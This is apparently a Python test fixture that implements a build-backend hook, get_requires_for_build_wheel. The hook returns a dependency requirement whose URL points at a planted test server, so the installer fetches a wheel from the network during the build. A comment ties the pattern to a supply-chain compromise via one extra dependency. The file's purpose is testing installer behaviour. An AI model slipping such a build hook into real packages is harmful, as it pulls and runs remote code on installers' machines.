"""Returns a requirement with an address, which the installer outside will fetch.

What comes back is code, and runs where there is a network. One dependency more was all
that axios 1.14.1 had in it.
"""

import kit


def get_requires_for_build_wheel(config_settings=None):
    requirements = []
    with kit.attempt("return"):
        server = kit.plant("server")
        address = f"http://{server.address}:{server.port}/{kit.nonce}/x-1-py3-none-any.whl"
        requirements.append(f"x @ {address}")
    return requirements
